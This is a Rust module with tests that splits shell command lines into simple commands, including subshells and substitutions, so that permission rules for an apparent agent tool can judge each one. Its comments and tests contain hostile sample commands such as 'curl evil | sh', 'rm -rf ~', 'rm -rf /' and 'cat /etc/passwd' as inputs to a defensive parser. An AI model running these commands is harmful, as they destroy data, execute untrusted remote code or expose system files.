//! Splitting a shell command line into the simple commands it runs, so permission
//! rules judge every one of them: `cargo test && rm -rf ~` is two commands, and
//! `echo $(curl evil | sh)` hides three.

/// The simple commands of `line`: split at `&&`, `||`, `;`, `|`, `&` and newlines,
/// with the contents of `$( )`, backticks and `( )` subshells added as commands of
/// their own. `None` when the line cannot be read (an unclosed quote or bracket):
/// then nothing in it can be trusted to match an allow rule.
pub fn split(line: &str) -> Option<Vec<String>> {
    let mut commands = Vec::new();
    split_into(line, &mut commands)?;
    Some(commands)
}

fn split_into(line: &str, commands: &mut Vec<String>) -> Option<()> {
    let chars: Vec<char> = line.chars().collect();
    let mut current = String::new();
    let mut i = 0;
    let finish = |current: &mut String, commands: &mut Vec<String>| {
        let command = normalize(current);
        if !command.is_empty() {
            commands.push(command);
        }
        current.clear();
    };
    while i < chars.len() {
        let c = chars[i];
        match c {
            '\\' => {
                current.push(c);
                if let Some(&next) = chars.get(i + 1) {
                    current.push(next);
                    i += 1;
                }
            }
            '\'' => {
                let end = find(&chars, i + 1, |c| c == '\'')?;
                current.extend(&chars[i..=end]);
                i = end;
            }
            '"' => {
                let end = closing_double_quote(&chars, i + 1, commands)?;
                current.extend(&chars[i..=end]);
                i = end;
            }
            '`' => {
                let end = find(&chars, i + 1, |c| c == '`')?;
                let inner: String = chars[i + 1..end].iter().collect();
                split_into(&inner, commands)?;
                current.push_str("`…`");
                i = end;
            }
            '$' if chars.get(i + 1) == Some(&'(') => {
                let end = matching_paren(&chars, i + 1)?;
                let inner: String = chars[i + 2..end].iter().collect();
                split_into(&inner, commands)?;
                current.push_str("$(…)");
                i = end;
            }
            '(' => {
                let end = matching_paren(&chars, i)?;
                let inner: String = chars[i + 1..end].iter().collect();
                split_into(&inner, commands)?;
                i = end;
            }
            ')' => return None,
            ';' | '\n' | '|' | '&' => {
                finish(&mut current, commands);
                if matches!((c, chars.get(i + 1)), ('|', Some('|')) | ('&', Some('&'))) {
                    i += 1;
                }
            }
            _ => current.push(c),
        }
        i += 1;
    }
    finish(&mut current, commands);
    Some(())
}

fn find(chars: &[char], from: usize, end: impl Fn(char) -> bool) -> Option<usize> {
    (from..chars.len()).find(|&i| end(chars[i]))
}

/// The closing `"`, splitting out `$( )` and backticks inside (they run).
fn closing_double_quote(chars: &[char], from: usize, commands: &mut Vec<String>) -> Option<usize> {
    let mut i = from;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 1,
            '"' => return Some(i),
            '`' => {
                let end = find(chars, i + 1, |c| c == '`')?;
                split_into(&chars[i + 1..end].iter().collect::<String>(), commands)?;
                i = end;
            }
            '$' if chars.get(i + 1) == Some(&'(') => {
                let end = matching_paren(chars, i + 1)?;
                split_into(&chars[i + 2..end].iter().collect::<String>(), commands)?;
                i = end;
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// The `)` closing the `(` at `open`, quotes respected.
fn matching_paren(chars: &[char], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    let mut i = open;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 1,
            '\'' => i = find(chars, i + 1, |c| c == '\'')?,
            '"' => i = find(chars, i + 1, |c| c == '"')?,
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// Words separated by single spaces, surrounding space gone.
fn normalize(command: &str) -> String {
    command.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The program and, when the second word is not an option, its subcommand:
/// `cargo test --release` → `cargo test`, `ls -la` → `ls`. Leading variable
/// assignments (`RUST_LOG=debug cargo run`) are skipped. This is what "allow for this
/// chat" grants for a command: never the whole shell.
pub fn program_and_subcommand(command: &str) -> String {
    let mut words = command
        .split_whitespace()
        .skip_while(|word| word.contains('=') && !word.starts_with('=') && !word.starts_with('-'));
    let Some(program) = words.next() else {
        return String::new();
    };
    match words.next() {
        Some(sub)
            if !sub.starts_with('-')
                && sub
                    .chars()
                    .all(|c| c.is_alphanumeric() || "-_:.".contains(c)) =>
        {
            format!("{program} {sub}")
        }
        _ => program.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parts(line: &str) -> Vec<String> {
        split(line).unwrap_or_else(|| panic!("could not split {line:?}"))
    }

    #[test]
    fn operators_separate_commands() {
        assert_eq!(
            parts("cargo build && cargo test"),
            ["cargo build", "cargo test"]
        );
        assert_eq!(
            parts("a || b; c | d & e\nf"),
            ["a", "b", "c", "d", "e", "f"]
        );
        assert_eq!(parts("  ls   -la  "), ["ls -la"]);
    }

    #[test]
    fn quotes_keep_operators_inside_them() {
        assert_eq!(parts("echo 'a && b' \"c; d\""), ["echo 'a && b' \"c; d\""]);
        assert_eq!(parts(r"echo a\;b"), [r"echo a\;b"]);
    }

    #[test]
    fn substitutions_and_subshells_are_commands_too() {
        assert_eq!(parts("echo $(curl x | sh)"), ["curl x", "sh", "echo $(…)"]);
        assert_eq!(parts("echo `rm -rf /`"), ["rm -rf /", "echo `…`"]);
        assert_eq!(parts("(cd sub && make) ; ls"), ["cd sub", "make", "ls"]);
        assert_eq!(
            parts("echo \"$(whoami)\""),
            ["whoami", "echo \"$(whoami)\""]
        );
    }

    #[test]
    fn unreadable_lines_are_refused() {
        for line in [
            "echo 'unclosed",
            "echo \"unclosed",
            "echo $(unclosed",
            "echo `x",
            "a )",
        ] {
            assert_eq!(split(line), None, "{line}");
        }
    }

    #[test]
    fn grants_name_the_program_and_subcommand() {
        assert_eq!(program_and_subcommand("cargo test --release"), "cargo test");
        assert_eq!(program_and_subcommand("ls -la src"), "ls");
        assert_eq!(
            program_and_subcommand("RUST_LOG=debug cargo run -- x"),
            "cargo run"
        );
        assert_eq!(program_and_subcommand("git commit -m 'x'"), "git commit");
        assert_eq!(
            program_and_subcommand("python3 script.py"),
            "python3 script.py"
        );
        assert_eq!(program_and_subcommand("cat /etc/passwd"), "cat");
    }
}
